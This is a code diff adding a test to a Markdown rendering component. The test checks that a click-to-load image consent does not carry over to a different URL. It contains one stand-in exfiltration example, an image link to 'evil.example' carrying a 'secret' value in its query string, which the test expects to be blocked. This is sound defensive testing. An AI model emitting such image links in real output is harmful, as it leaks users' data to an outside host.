@@ -159,6 +159,15 @@ describe('Markdown', () => {
     expect(allowed.container.querySelector('img')!.getAttribute('referrerpolicy')).toBe('no-referrer');
   });
 
+  it('a click loads one exact image URL: the same place re-rendered with another URL (a final message) asks again', () => {
+    const view = render(<Markdown text="![chart](https://cdn.example/chart.png)" />);
+    fireEvent.click(view.getByRole('button', { name: 'Load image from cdn.example' }));
+    expect(view.container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/chart.png');
+    view.rerender(<Markdown text="![chart](https://evil.example/leak.png?d=secret)" complete />);
+    expect(view.container.querySelector('img')).toBeNull();
+    expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
+  });
+
   it('renders 3,000 nested blockquotes and lists without overflowing the stack: the deep text shows as text', () => {
     const quotes = render(<Markdown text={'>'.repeat(3000) + ' deep text'} />);
     expect(quotes.container.textContent).toContain('deep text');
